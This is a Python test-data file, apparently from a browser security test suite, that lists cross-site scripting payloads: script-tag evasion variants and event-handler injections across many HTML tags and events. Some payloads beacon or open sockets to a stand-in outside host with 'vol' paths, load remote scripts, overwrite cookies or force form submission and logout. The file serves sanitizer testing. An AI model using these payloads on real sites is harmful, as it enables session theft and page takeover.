"""Scripts, and the handlers of every event."""

from tests.browser.hostile.parts import ASK, ELSEWHERE, HOST, IMAGE, RUN, SCRIPT, attached

SCRIPTS = [
    SCRIPT,
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT SRC={ELSEWHERE}/x.js></SCRIPT>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script\x0c>{RUN}</script\n>",
    f"<script/x>{RUN}</script/x>",
    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
    f"</p></div></article></li></ol></main>{SCRIPT}",
    f"-->{SCRIPT}<!--",
    f"]]>{SCRIPT}<![CDATA[",
    f"<script>{ASK}</script>",
    f"<script>document.cookie='csrftoken=vol';{RUN}</script>",
    "<script>alert(document.domain);confirm(1);prompt(1)</script>",
    "<script>open('/comptes/deconnexion/');print()</script>",
    f"<script>navigator.sendBeacon('{ELSEWHERE}/vol')</script>",
    f"<script>new WebSocket('wss://{HOST}/vol')</script>",
    f"<script>location='{ELSEWHERE}/ailleurs'</script>",
    "<script>document.forms.ajouter.submit()</script>",
    f"<script nonce>{RUN}</script>",
    f'<script nonce="<?php echo $nonce ?>">{RUN}</script>',
    f"<script async defer src=//{HOST}/x.js></script>",
    f'<script type=importmap>{{"imports":{{"x":"{ELSEWHERE}/x.js"}}}}</script>',
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{ELSEWHERE}"]}}]}}</script>',
    f"<script src=x onerror={RUN}></script>",
    f"<script\x0b>{RUN}</script>",
    f"<script x='>'>{RUN}</script>",
    f"<sCrIpT\t\n>{RUN}</ScRiPt\t>",
    f"<script>/*</script>{SCRIPT}*/",
    f"<script><!--<script>{RUN}</script>--></script>{SCRIPT}",
    SCRIPT * 20,
    f"<script>{RUN}",
    f"</script>{SCRIPT}",
    f"<script src='/static/js/mask.js?x'></script><script src=data:,{RUN}></script>",
    f"<template shadowrootmode=open>{SCRIPT}{IMAGE}</template>",
    *(f"<script type='{kind}'>{RUN}</script>" for kind in ["", "module", "text/ecmascript"]),
    *(f"<script language={name}>{RUN}</script>" for name in ["javascript1.5", "vbs", "JScript"]),
]

LOADING = ["onload", "onerror", "onabort", "onloadstart", "onloadend"]
LOADERS = ["img", "iframe", "script", "embed", "input type=image", "video", "audio", "frame"]
FOCUSED = [
    "a href=# autofocus",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "p tabindex=0 autofocus",
    "p contenteditable autofocus",
]
MEDIA = """oncanplay oncanplaythrough ondurationchange onemptied onended onloadeddata
    onloadedmetadata onpause onplay onplaying onprogress onratechange onseeked onseeking onstalled
    onsuspend ontimeupdate onvolumechange onwaiting onwaitingforkey onencrypted""".split()
WINDOW = """onload onpageshow onpagehide onpagereveal onpageswap onhashchange onpopstate onresize
    onscroll onmessage onmessageerror onoffline ononline onstorage onlanguagechange onunload
    onbeforeunload onbeforeprint onafterprint onrejectionhandled onunhandledrejection
    ongamepadconnected ondevicemotion ondeviceorientation""".split()
MOVING = """onanimationstart onanimationend onanimationiteration onanimationcancel
    ontransitionrun ontransitionstart ontransitionend ontransitioncancel onwebkitanimationstart
    onwebkitanimationend onwebkittransitionend""".split()
POINTED = """onclick ondblclick onauxclick oncontextmenu onmousedown onmouseup onmouseenter
    onmouseleave onmousemove onmouseover onmouseout onmousewheel onwheel onpointerdown onpointerup
    onpointerenter onpointerleave onpointermove onpointerover onpointerout onpointercancel
    onpointerrawupdate ongotpointercapture onlostpointercapture ontouchstart ontouchend
    ontouchmove ontouchcancel ondrag ondragstart ondragend ondragenter ondragleave ondragover
    ondrop onselectstart onselectionchange""".split()
TYPED = """onkeydown onkeyup onkeypress oninput onbeforeinput onchange onblur onfocus onfocusin
    onfocusout oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste oninvalid onreset
    onsearch onselect onsubmit onformdata ontextInput""".split()
OTHER = """onbeforematch onbeforetoggle ontoggle oncancel onclose oncommand oncontextlost
    oncontextrestored oncontentvisibilityautostatechange oncuechange onfullscreenchange
    onfullscreenerror onwebkitfullscreenchange onscrollend onscrollsnapchange onscrollsnapchanging
    onsecuritypolicyviolation onslotchange onbeforexrselect onbounce onfinish onstart onbegin
    onend onrepeat onactivate onpropertychange onreadystatechange onfilterchange onhelp
    onlayoutcomplete onrowenter ontimeerror onurlflip onunknown onx""".split()
EVENTS = sorted({*LOADING, *MEDIA, *WINDOW, *MOVING, *POINTED, *TYPED, *OTHER})
HANDLERS = [
    *(f"<{tag} src=x {name}={RUN}>" for tag in LOADERS for name in LOADING[:2]),
    *(f"<{tag} onfocus={RUN} onblur={RUN}>visée" for tag in FOCUSED),
    *attached("<video autoplay muted src=data:video/mp4,", MEDIA, "></video>"),
    *attached("<body", WINDOW, ">"),
    *attached("<p style='animation:x;transition:1s'", MOVING, ">animée</p>"),
    *attached("<p", POINTED, ">gestes</p>"),
    *attached("<input autofocus value=x", TYPED, ">"),
    *attached("<details open", OTHER, ">autre</details>"),
    f"<p onclick={RUN} onmouseover={RUN} onpointerenter={RUN}>gestes</p>",
    f"<a href={ELSEWHERE} onfocus={RUN} autofocus tabindex=1>visée</a>",
    f"<details open ontoggle={RUN}><summary>volet</summary></details>",
    f"<strong style=animation-name:x onanimationstart={RUN} ontransitionend={RUN}>animée</strong>",
    f"<video autoplay oncanplay={RUN}><source onerror={RUN} src={ELSEWHERE}/film></video>",
    f"<input autofocus onfocus={RUN} name=texte form=ajouter value=volé>",
    f"<img/src='x'/onerror='{RUN}'/alt='`'>",
    f"<marquee onstart={RUN} onbounce={RUN} loop=1>défile</marquee>",
    f"<link rel=stylesheet href=x onerror={RUN} onload={RUN}>",
    f"<style onload={RUN} onerror={RUN}>p{{}}</style>",
    f"<object data=x onerror={RUN} onload={RUN}></object>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<picture><source srcset=x><img onerror={RUN}></picture>",
    f"<video><track default src=x onerror={RUN} onload={RUN}></video>",
    f"<p popover id=bulle onbeforetoggle={RUN}>x</p><button popovertarget=bulle>bulle</button>",
    f"<dialog open onclose={RUN}><form method=dialog><button>Fermer</button></form></dialog>",
    f"<p accesskey=x onclick={RUN}>gestes</p>",
    f"<label onclick={RUN}>gestes<input></label>",
    f"<iframe src=/ onload={RUN}></iframe>",
    f"<image src=x onerror={RUN}>",
    f"<p style=content-visibility:auto oncontentvisibilityautostatechange={RUN}>autre",
]
